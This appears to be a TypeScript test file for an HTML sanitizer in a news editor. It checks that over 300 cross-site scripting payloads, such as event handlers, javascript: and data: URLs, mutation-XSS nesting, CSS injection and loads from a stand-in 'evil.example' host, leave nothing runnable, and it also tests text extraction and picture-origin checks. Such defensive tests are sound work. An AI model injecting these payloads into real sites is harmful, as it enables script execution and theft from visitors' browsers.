import { editorFonts, editorFontSizes } from 'shared-contracts/constants';
import { dataAttribute, type Embed, embedData, embedHtml } from 'shared-contracts/model';
import { parse, type DefaultTreeAdapterTypes } from 'parse5';
import {
  cleanHtml,
  cleanLine,
  foreignPictures,
  foreignVideos,
  isEmptyBody,
  isOwnPicture,
  textOfHtml,
} from './html.rules.ts';

const scripts = ['alert(1)', 'import("//evil.example/x.js")', 'eval(atob("YQ=="))'];
const tags = [
  'img',
  'a',
  'p',
  'body',
  'video',
  'audio',
  'details',
  'svg',
  'math',
  'input',
  'marquee',
  'object',
  'table',
  'iframe',
];
const events = [
  'onerror',
  'onload',
  'onclick',
  'ontoggle',
  'onfocus',
  'onpointerenter',
  'onanimationstart',
  'onbegin',
  'ONERROR',
  'on\u0000error',
];
const urls = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '&#106;avascript:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:x',
  '\u0001javascript:alert(1)',
  '//evil.example/x',
  'file:///etc/passwd',
  'blob:x',
  '\u00a0javascript:alert(1)',
  '\u200b\ufeffjavascript:alert(1)',
  '\tjava\nscript:alert(1)',
  '\u3000data:text/html,x',
];
const styles = [
  'position:fixed;top:0',
  'background:url(//evil.example/x)',
  'width:expression(alert(1))',
  'z-index:999999',
  'behavior:url(x.htc)',
  '-moz-binding:url(x)',
  'color:red;position:absolute',
  'background-color:url(x)',
  'font-family:"x";position:sticky',
  'line-height:9999',
  'text-indent:-9999px',
  'color:re\\64',
];
const embeds = (inside: string) => [
  `<section data-embed="raw">${inside}</section>`,
  `<p>前<section data-embed="raw">${inside}</section>后`,
];
const shapes = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>@import "//evil.example"</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<template><script>alert(1)</script></template>',
  '</textarea><script>alert(1)</script>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p><a href="https://a.cn" onclick="alert(1)">x',
  '<img src="x" srcset="javascript:alert(1) 1x">',
  ...embeds('<img src=x onerror=alert(1)><script>alert(1)</script><svg onload=alert(1)></svg>'),
  ...embeds('</section><script>alert(1)</script>'),
  ...embeds('<section data-embed="raw"><img src=x onerror=alert(1)>'),
  ...styles.flatMap((style) => embeds(`<section style="${style}">文</section>`)),
  '<figure data-embed="video" onload="alert(1)"><video src="javascript:alert(1)" onerror="alert(1)"><source src="//evil.example/x" onerror="alert(1)"></video></figure>',
  '<video src="//evil.example/x.mp4" poster="javascript:alert(1)" autoplay></video>',
  '<figure data-embed="content" data-external-link-url="javascript:alert(1)" data-evil="1"><a href="javascript:alert(1)">x</a></figure>',
  '<figure data-embed="__proto__" data-id="1"><a href="data:text/html,x" download="x.html">x</a></figure>',
  '<figure data-embed="ad" data-external-link-url="javascript:alert(1)" data-outer-chain="1"><a href="https://a.cn" ping="//evil.example">x</a></figure>',
  '<video><script>alert(1)</script></video>',
  '<a href="https://x.cn" style="display:block;position:fixed;inset:0">x</a>',
  '<p class="ant-modal-mask ql-align-center evil">x</p>',
  '<p id="root">x</p>',
  '<a name="x" href=https://x.cn>x</a>',
  '<p dir=rtl>\u202etxt</p>',
];
const corpus = [
  ...tags.flatMap((tag) =>
    events.flatMap((event) => scripts.slice(0, 2).map((script) => `<${tag} src=x ${event}='${script}'>文</${tag}>`)),
  ),
  ...urls.flatMap((url) => [
    `<a href="${url}">文</a>`,
    `<img src="${url}">`,
    `<svg><a xlink:href="${url}">x</a></svg>`,
  ]),
  ...styles.map((style) => `<p style="${style}">文</p>`),
  ...shapes,
];

const allowedTags = new Set(
  'p h1 h2 h3 strong em u s sup sub a ul ol li blockquote img br hr span table thead tbody tr td th figure figcaption video section div html head body'.split(
    ' ',
  ),
);
const allowedAttributes = new Set(
  'class style href title target rel src alt width height colspan rowspan scope data-list poster controls preload download data-embed'.split(
    ' ',
  ),
);
for (const names of Object.values(embedData)) for (const name of names) allowedAttributes.add(dataAttribute(name));

/** Everything in a browser's reading of cleaned HTML that could run, load from elsewhere or lie over the page. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const visit = (node: DefaultTreeAdapterTypes.Node) => {
    if ('tagName' in node) {
      if (!allowedTags.has(node.tagName)) found.push(`<${node.tagName}>`);
      for (const { name, value } of node.attrs) {
        if (!allowedAttributes.has(name)) found.push(`${node.tagName} ${name}`);
        if (name === 'href' && !/^(https?:|mailto:|tel:|\/(?!\/)|#|[\w.]+$)/i.test(value)) found.push(`href ${value}`);
        if (name === 'src' && !/^(https?:|\/(?!\/)|[\w.]+$)/i.test(value)) found.push(`src ${value}`);
        if (name === 'data-external-link-url' && /script:/i.test(value)) found.push(`link ${value}`);
        if (name === 'poster' && !/^(https?:|\/(?!\/))/i.test(value)) found.push(`poster ${value}`);
        if (name === 'style' && /(^|[;\s])position|url|expression|z-index|binding|behavior|\\/i.test(value))
          found.push(`style ${value}`);
        if (name === 'class' && !value.split(' ').every((word) => word.startsWith('ql-'))) found.push(`class ${value}`);
      }
      if (node.tagName === 'a' && !node.attrs.some(({ name, value }) => name === 'rel' && value.includes('noopener')))
        found.push('a without rel');
    }
    if ('childNodes' in node) node.childNodes.forEach(visit);
  };
  visit(parse(html));
  return found;
}

function attributeIn(html: string, name: string): string | undefined {
  let found: string | undefined;
  const visit = (node: DefaultTreeAdapterTypes.Node) => {
    if ('attrs' in node) found ??= node.attrs.find((one) => one.name === name)?.value;
    if ('childNodes' in node) node.childNodes.forEach(visit);
  };
  visit(parse(html));
  return found;
}

describe('cleanHtml', () => {
  it(`A51 A53 A54 lets nothing of ${corpus.length} payloads run`, () => {
    expect(corpus.length).toBeGreaterThan(300);
    expect(corpus.flatMap((payload) => dangers(cleanHtml(payload)).map((danger) => `${payload} → ${danger}`))).toEqual(
      [],
    );
  });

  it('gives the same when cleaned twice', () => {
    for (const payload of corpus) expect(cleanHtml(cleanHtml(payload))).toBe(cleanHtml(payload));
  });

  it('R488 a link in a sentence keeps what names content of ours, whole or not at all', () => {
    const link =
      '<a href="/site/a/12" target="_blank" rel="noopener noreferrer" data-content-type="5" data-original-id="12" data-id="12" data-special-type="0" data-special-list-style="0" data-video-type="0">前文</a>';
    expect(attributeIn(cleanHtml(`<p>见${link}</p>`), 'data-original-id')).toBe('12');
    expect(cleanHtml(cleanHtml(`<p>见${link}</p>`))).toBe(cleanHtml(`<p>见${link}</p>`));
    for (const name of [
      'data-content-type',
      'data-id',
      'data-special-type',
      'data-special-list-style',
      'data-video-type',
    ])
      expect(attributeIn(cleanHtml(link), name)).toBeDefined();
    for (const partial of [
      '<a href="/site/a/1" data-id="1">甲</a>',
      '<a data-id="1" data-original-id="1">甲</a>',
      '<a href="/a" data-id="1 onclick=x" data-original-id="1">甲</a>',
      '<p data-original-id="1">甲</p>',
    ]) {
      expect(cleanHtml(partial)).not.toContain('data-');
    }
  });

  it('keeps what the editor makes', () => {
    const story =
      '<h1>题</h1><p class="ql-align-center ql-indent-2" style="text-align:center;color:#ff0000">文<strong>粗</strong><em>斜</em><u>线</u><s>删</s>m<sup>2</sup>CO<sub>2</sub></p><ul><li data-list="bullet">项</li></ul>' +
      '<blockquote>引</blockquote><p><img src="/files/a.jpg" alt="图" width="600" /></p><table><tbody><tr><td colspan="2">格</td></tr></tbody></table>';
    expect(cleanHtml(story)).toBe(story);
  });

  const card = (kind: Embed['kind'], data: Record<string, string> = {}): Embed => ({
    kind,
    title: '“大桥”<通车> & 一',
    address: '/site/n/12',
    image: '/files/a.jpg',
    html: '',
    data,
  });
  it.each([
    card('content', {
      contentType: '5',
      originalId: '12',
      id: '13',
      specialType: '1',
      specialListStyle: '2',
      videoType: '0',
    }),
    card('activity', {
      contentId: '7',
      originalId: '7',
      id: '7',
      outerChain: '1',
      externalLinkUrl: 'https://act.example/7?a=1&b=2',
    }),
    card('ad', { contentId: '9', originalId: '9', id: '9', outerChain: '0', externalLinkUrl: '/site/n/9' }),
    { ...card('attachment', { name: '通知 "终稿".pdf', size: '2048' }), address: '/files/2026/a.pdf' },
    { ...card('video', { streamId: '31' }), address: '/files/2026/v.mp4' },
  ])('R488 R489 R558 an embed of kind $kind keeps its attributes', (embed) => {
    const clean = cleanHtml(embedHtml(embed));
    for (const [name, value] of Object.entries(embed.data)) expect(attributeIn(clean, dataAttribute(name))).toBe(value);
    expect(clean).toContain(
      embed.kind === 'video' ? 'src="/files/2026/v.mp4" poster="/files/a.jpg"' : `href="${embed.address}"`,
    );
    expect(textOfHtml(clean)).toBe(embed.title);
    expect(cleanHtml(clean)).toBe(clean);
  });

  it('a styled card keeps its look byte for byte, and loses only what is unsafe', () => {
    const look =
      '<section data-embed="raw"><section style="margin:10px auto;text-align:center; background-image:url(/files/2026/b.png)"><p style="transform: rotate(3deg);border-bottom:2px solid #cf1322">导语 &amp; 题</p></section></section>';
    expect(cleanHtml(`<p>前</p>${look}<p>后</p>`)).toBe(`<p>前</p>${look}<p>后</p>`);
    expect(cleanHtml('<section data-embed="raw"><p style="color:red;position:fixed;top:0">x</p></section>')).toBe(
      '<section data-embed="raw"><p style="color:red">x</p></section>',
    );
    expect(cleanHtml('<section data-embed="raw"><script>x</script></section>')).toBe('');
  });

  it('a video of another site is named, one of ours is a body', () => {
    const body = cleanHtml(
      '<figure data-embed="video"><video src="https://v.example/a.mp4"></video></figure><figure data-embed="video"><video src="/files/a.mp4"></video></figure>',
    );
    expect(foreignVideos(body, ['https://news.example'])).toEqual(['https://v.example/a.mp4']);
    expect(foreignVideos(body, ['https://v.example'])).toEqual([]);
    expect(isEmptyBody(body)).toBe(false);
  });

  it.each([
    ['<p style="text-indent:2em">\t本报讯\t完</p>', '<p style="text-indent:2em">本报讯\t完</p>'],
    [
      '<ul><li> \t<strong>一</strong></li></ul><p><strong><em>\t\t二</em></strong></p>',
      '<ul><li><strong>一</strong></li></ul><p><strong><em>二</em></strong></p>',
    ],
    ['<p>　　全角\t</p><p> 空格</p>', '<p>　　全角\t</p><p> 空格</p>'],
    ['<section data-embed="raw"><p>\t卡</p></section>', '<section data-embed="raw"><p>\t卡</p></section>'],
  ])('no TAB stays before the first letter of a block: %j', (html, expected) => {
    expect(cleanHtml(html)).toBe(expected);
    expect(cleanHtml(expected)).toBe(expected);
  });

  it('A53 keeps plain styles and drops the rest of the attribute', () => {
    expect(cleanHtml('<p style="color:red;position:fixed;line-height:1.5">x</p>')).toBe(
      '<p style="color:red;line-height:1.5">x</p>',
    );
  });

  it.each([
    ...editorFontSizes.map((size) => `font-size:${size}`),
    ...Object.values(editorFonts).map((font) => `font-family:${font}`),
  ])('keeps %s, which the editor offers, and no other', (style) => {
    const html = `<p><span style="${style}">x</span></p>`;
    expect(cleanHtml(html)).toBe(html);
    expect(cleanHtml(html.replace(':', ':1'))).not.toContain('style');
  });
});

describe('text of a body', () => {
  it.each([
    ['<p>一</p><p>二<br>三</p>', '一\n二\n三'],
    ['<p>a &amp; b &lt;p&gt; &#20013;&nbsp;&#x6587;</p>', 'a & b <p> 中 文'],
    ['<p><img src="/files/a.jpg"></p>', ''],
    ['', ''],
    ['<p>120m<sup>2</sup>、CO<sub>2</sub></p>', '120m²、CO₂'],
  ])('%s', (html, text) => expect(textOfHtml(html)).toBe(text));

  it('is empty without text and picture', () => {
    expect(isEmptyBody('<p><br></p><p>&nbsp; </p>')).toBe(true);
    expect(isEmptyBody('<p><img src="/files/a.jpg" /></p>')).toBe(false);
  });

  it('A50 makes titles one plain line', () => {
    expect(cleanLine(' 标\u0000题\u202e\r\n 二\u2066 ')).toBe('标题 二');
  });
});

describe('pictures of our own', () => {
  it.each([
    ['/files/2026/a.jpg', true],
    ['https://news.example/files/a.jpg', true],
    ['https://news.example.evil.com/a.jpg', false],
    ['/other/a.jpg', false],
    ['/files/../etc', false],
    ['//news.example/files/a.jpg', false],
    ['https://other.example/a.jpg', false],
  ])('%s: %s', (source, isOwn) => expect(isOwnPicture(source, ['https://news.example'])).toBe(isOwn));

  it('names the foreign ones in order', () => {
    expect(
      foreignPictures('<img src="https://b.cn/1.jpg"><img src="/files/a"><img src="https://a.cn/2.jpg?x=1&amp;y=2">', [
        '',
      ]),
    ).toEqual(['https://b.cn/1.jpg', 'https://a.cn/2.jpg?x=1&y=2']);
  });
});
